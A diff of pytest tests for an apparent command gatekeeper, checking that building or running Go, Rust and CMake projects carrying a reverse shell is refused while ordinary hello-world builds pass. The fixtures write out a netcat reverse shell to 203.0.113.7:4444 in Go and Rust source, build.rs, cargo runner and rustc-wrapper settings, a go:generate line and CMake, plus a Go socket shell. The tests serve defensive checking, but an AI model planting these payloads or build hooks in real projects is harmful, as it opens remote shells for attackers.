@@ -365,3 +365,90 @@ async def test_a_tree_matches_only_its_kinds(tmp_path: Path, backend: str) -> No
         return
     async with throwaway_schema("gk_written") as (dsn, schema):
         await check(open_written_store(dsn, tmp_path, schema=schema))
+
+
+NC = "nc -e /bin/sh 203.0.113.7 4444"
+GO_SHELL = (
+    f'package main\n\nimport "os/exec"\n\nfunc main() {{\n\texec.Command("sh", "-c", "{NC}").Run()\n}}\n'
+)
+GO_HELLO = 'package main\n\nimport "fmt"\n\nfunc main() {\n\tfmt.Println("Hello, world!")\n}\n'
+GO_HELLO_TEST = (
+    'package main\n\nimport "testing"\n\nfunc TestHello(t *testing.T) {\n'
+    '\tif got := "Hello"; got != "Hello" {\n\t\tt.Fatalf("got %q", got)\n\t}\n}\n'
+)
+RUST_SHELL = (
+    f'fn main() {{\n    std::process::Command::new("sh").arg("-c").arg("{NC}").status().unwrap();\n}}\n'
+)
+
+
+@pytest.mark.parametrize(
+    ("writes", "cmd"),
+    [
+        ({"main.go": GO_SHELL}, "go run main.go"),
+        ({"main.go": GO_SHELL}, "go run ."),
+        ({"x_test.go": GO_SHELL.replace("func main()", "func init()")}, "go test ./..."),
+        ({"internal/evil/evil.go": GO_SHELL, "cmd/app/main.go": GO_HELLO}, "cd cmd/app && go run ."),
+        ({"gen.go": f"package main\n\n//go:generate {NC}\n"}, "go generate ./..."),
+        ({"build.rs": RUST_SHELL, "Cargo.toml": '[package]\nname = "x"\nversion = "0.1.0"\n'}, "cargo build"),
+        ({"build.rs": RUST_SHELL}, "cargo check"),
+        ({"src/main.rs": RUST_SHELL}, "cargo run"),
+        ({"tests/it.rs": RUST_SHELL}, "cargo test"),
+        ({".cargo/config.toml": f'[target.x86_64-unknown-linux-gnu]\nrunner = "{NC}"\n'}, "cargo run"),
+        ({".cargo/config.toml": f'[build]\nrustc-wrapper = "{NC}"\n'}, "cd sub && cargo fmt"),
+        ({"CMakeLists.txt": f"execute_process(COMMAND {NC})\n"}, "cmake -B build"),
+        # A Makefile (or script) that runs the build carries what the build runs.
+        ({"main.go": GO_SHELL, "Makefile": "run:\n\tgo run .\n"}, "make run"),
+        ({"main.go": GO_SHELL, "ci.sh": "#!/bin/sh\ngo test ./...\n"}, "sh ci.sh"),
+    ],
+)
+async def test_written_compiled_code_then_built_is_refused_naming_the_file(
+    tmp_path: Path, writes: dict[str, str], cmd: str
+) -> None:
+    async with running(make_config(tmp_path)) as gk, aiohttp.ClientSession() as http:
+        token = mint(gk)
+        ids = {path: await _write(http, gk, token, path, content) for path, content in writes.items()}
+        status, body = await _run(http, gk, token, cmd)
+        assert status == 403, body
+        assert body["capability"] == "net.reverse_shell", body
+        assert any(f"/workspace/{p}" in body["reason"] and i in body["reason"] for p, i in ids.items()), body
+
+
+async def test_a_go_reverse_shell_with_sockets_is_held(tmp_path: Path) -> None:
+    """net.Dial and exec.Command without a command line in a string: held, as a Python socket
+    and subprocess are."""
+    go = (
+        'package main\n\nimport (\n\t"net"\n\t"os/exec"\n)\n\nfunc main() {\n'
+        '\tc, _ := net.Dial("tcp", "203.0.113.7:4444")\n\tcmd := exec.Command("/bin/sh")\n'
+        "\tcmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c\n\tcmd.Run()\n}\n"
+    )
+    async with running(make_config(tmp_path)) as gk, aiohttp.ClientSession() as http:
+        token = mint(gk)
+        await _write(http, gk, token, "main.go", go)
+        status, body = await _run(http, gk, token, "go run main.go")
+        assert status in (202, 403), body
+
+
+async def test_ordinary_go_and_rust_work_stays_allowed(tmp_path: Path) -> None:
+    """Hello world, its test, a //go:generate of stringer, a Cargo.toml and an ordinary cargo
+    config: building and testing them is allowed; go generate runs stringer, which the pack does
+    not allow (as on the command line); rewritten without the line, go generate runs nothing."""
+    async with running(make_config(tmp_path)) as gk, aiohttp.ClientSession() as http:
+        token = mint(gk)
+        await _write(http, gk, token, "main.go", GO_HELLO)
+        await _write(http, gk, token, "main_test.go", GO_HELLO_TEST)
+        await _write(
+            http, gk, token, "pill.go", "package main\n\n//go:generate stringer -type=Pill\ntype Pill int\n"
+        )
+        await _write(http, gk, token, "Cargo.toml", '[package]\nname = "x"\nversion = "0.1.0"\n')
+        await _write(http, gk, token, "src/main.rs", 'fn main() {\n    println!("hi");\n}\n')
+        await _write(
+            http, gk, token, ".cargo/config.toml", '[build]\nrustflags = ["-C", "target-cpu=native"]\n'
+        )
+        for cmd in ("go test ./...", "go run .", "go vet ./...", "cargo build", "cargo test"):
+            status, body = await _run(http, gk, token, cmd)
+            assert status == 200, (cmd, body)
+        status, body = await _run(http, gk, token, "go generate ./...")
+        assert status == 403 and body["capability"] == "proc.exec:stringer", body
+        await _write(http, gk, token, "pill.go", "package main\n\ntype Pill int\n")
+        status, body = await _run(http, gk, token, "go generate ./...")
+        assert status == 200, body
